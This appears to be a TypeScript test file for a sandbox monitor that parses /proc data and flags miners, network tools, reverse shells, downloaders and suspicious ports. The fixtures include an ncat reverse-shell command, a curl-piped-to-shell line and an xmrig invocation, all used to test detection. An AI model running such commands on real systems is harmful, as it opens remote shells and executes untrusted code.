/** The live monitor's pure parts: /proc parsers and the behaviour rules that raise alerts and cut the network. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { decodeAddress, parseNetDev, parseSockets, parseStat, type ProcessInfo } from '../../src/sandbox/monitor/proc-files.js';
import { BehaviourJudge, type Sample } from '../../src/sandbox/monitor/behaviour.js';

test('/proc parsers: addresses, sockets, interface counters and stat lines with odd names', () => {
  assert.deepEqual(decodeAddress('0100007F:1F90'), { ip: '127.0.0.1', port: 8080 });
  assert.deepEqual(decodeAddress('00000000000000000000000001000000:0050'), { ip: '0:0:0:0:0:0:0:1', port: 80 });
  assert.deepEqual(decodeAddress('0000000000000000FFFF00000200A8C0:115C'), { ip: '192.168.0.2', port: 4444 });
  const tcp = [
    '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
    '   0: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000 65534        0 55045 1 0 100 0 0 10 0',
    '   1: 020011AC:C350 050011AC:115C 01 00000000:00000000 00:00000000 00000000 65534        0 55046 1 0 100 0 0 10 0',
  ].join('\n');
  const sockets = parseSockets(tcp, 'tcp');
  assert.equal(sockets[0]!.state, 'listen');
  assert.deepEqual([sockets[1]!.remoteIp, sockets[1]!.remotePort, sockets[1]!.state], ['172.17.0.5', 4444, 'established']);
  const dev = 'Inter-|   Receive\n face |bytes packets\n    lo:  900 9 0 0 0 0 0 0  900 9 0 0 0 0 0 0\n  eth0: 1000 5 0 0 0 0 0 0  2000 7 0 0 0 0 0 0\n';
  assert.deepEqual(parseNetDev(dev), { rxBytes: 1000, txBytes: 2000 });
  const stat = parseStat('42 (my (odd) name) S 7 42 42 0 -1 4194560 100 0 0 0 150 30 0 0 20 0 1 0 12345 1000000 250 18446744073709551615');
  assert.deepEqual(stat, { pid: 42, comm: 'my (odd) name', ppid: 7, cpuTicks: 180, rssPages: 250, startTicks: 12345 });
  assert.equal(parseStat('garbage'), undefined);
});

const limits = { cpus: 1, memoryBytes: 512 * 1024 ** 2, pids: 64 };
const proc = (pid: number, comm: string, cmdline = comm): ProcessInfo => ({ pid, ppid: 1, comm, cmdline, cpuTicks: 0, rssPages: 0 });
function sample(over: Partial<Sample>): Sample {
  return { atMs: 0, processes: [proc(1, 'docker-init'), proc(2, 'python3', 'python3 app.py')], socketStdio: new Set(), sockets: [], rxBytes: 0, txBytes: 0, cpuPercent: 0, memoryBytes: 0, ...over };
}
const kinds = (alerts: { kind: string; cut: boolean }[]) => alerts.map((a) => `${a.kind}${a.cut ? '!' : ''}`);

test('an honest program raises nothing', () => {
  const judge = new BehaviourJudge(limits, 1);
  const https = { proto: 'tcp' as const, localIp: '172.17.0.2', localPort: 50000, remoteIp: '93.184.216.34', remotePort: 443, state: 'established' as const };
  assert.deepEqual(judge.judge(sample({ sockets: [https], rxBytes: 5_000_000, txBytes: 20_000, cpuPercent: 40 })), []);
});

test('miners, network tools, reverse shells and suspicious ports cut the network; a shell alone only alerts', () => {
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(5, 'xmrig', '/tmp/xmrig -o stratum+tcp://pool:3333')] }))), ['miner-process!']);
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(6, 'ncat', 'ncat 10.0.0.1 9999 -e /bin/sh')] }))), ['network-tool!']);
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(7, 'sh', '/bin/sh -i')], socketStdio: new Set([7]) }))), ['socket-shell!', 'shell-spawned']);
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(8, 'sh', 'sh -c ls')] }))), ['shell-spawned']);
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: [proc(1, 'docker-init'), proc(9, 'sh', 'sh -c curl -s x | sh'), proc(10, 'curl', 'curl -s x')] }))), ['shell-spawned', 'downloader!']);
  const c2 = { proto: 'tcp' as const, localIp: '172.17.0.2', localPort: 40000, remoteIp: '198.51.100.4', remotePort: 4444, state: 'syn-sent' as const };
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ sockets: [c2] }))), ['suspicious-port!']);
});

test('fan-out, upload volume, sustained CPU with a connection, pids and memory near their limits', () => {
  const many = Array.from({ length: 30 }, (_, i) => ({ proto: 'tcp' as const, localIp: '172.17.0.2', localPort: 40000 + i, remoteIp: `203.0.113.${i + 1}`, remotePort: 22, state: 'syn-sent' as const }));
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ sockets: many }))), ['connection-fan-out!']);
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ txBytes: 60 * 1024 ** 2, rxBytes: 1024 }))), ['upload-volume!']);
  const judge = new BehaviourJudge(limits, 1);
  const pool = { proto: 'tcp' as const, localIp: '172.17.0.2', localPort: 40000, remoteIp: '198.51.100.9', remotePort: 443, state: 'established' as const };
  assert.deepEqual(judge.judge(sample({ atMs: 0, cpuPercent: 99, sockets: [pool] })), []);
  assert.deepEqual(kinds(judge.judge(sample({ atMs: 21_000, cpuPercent: 99, sockets: [pool] }))), ['cpu-saturation!']);
  assert.deepEqual(judge.judge(sample({ atMs: 30_000, cpuPercent: 99, sockets: [pool] })), [], 'each kind fires once');
  const busy = new BehaviourJudge(limits, 1);
  busy.judge(sample({ atMs: 0, cpuPercent: 99 }));
  assert.deepEqual(kinds(busy.judge(sample({ atMs: 25_000, cpuPercent: 99 }))), ['cpu-saturation'], 'busy but offline: an alert, no cut');
  const forks = Array.from({ length: 60 }, (_, i) => proc(10 + i, 'python3'));
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ processes: forks, memoryBytes: 500 * 1024 ** 2 }))), ['pids-near-limit', 'memory-near-limit']);
});

test('UDP counts: a connected UDP socket to a suspicious port cuts, and UDP peers count towards the fan-out', () => {
  const udp = (remoteIp: string, remotePort: number) => ({ proto: 'udp' as const, localIp: '172.17.0.2', localPort: 40000, remoteIp, remotePort, state: 'established' as const });
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ sockets: [udp('198.51.100.4', 4444)] }))), ['suspicious-port!']);
  const many = Array.from({ length: 30 }, (_, i) => udp(`203.0.113.${i + 1}`, 53));
  assert.deepEqual(kinds(new BehaviourJudge(limits, 1).judge(sample({ sockets: many }))), ['connection-fan-out!']);
  // an unconnected UDP socket (bound, no peer) is not a connection out
  const bound = { proto: 'udp' as const, localIp: '0.0.0.0', localPort: 4444, remoteIp: '0.0.0.0', remotePort: 0, state: 'listen' as const };
  assert.deepEqual(new BehaviourJudge(limits, 1).judge(sample({ sockets: [bound] })), []);
  const table = [
    '   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops',
    '  123: 020011AC:9C40 040064C6:115C 01 00000000:00000000 00:00000000 00000000 65534        0 77001 2 0 0',
  ].join('\n');
  assert.deepEqual(parseSockets(table, 'udp').map((s) => [s.proto, s.remoteIp, s.remotePort, s.state]), [['udp', '198.100.0.4', 4444, 'established']]);
});
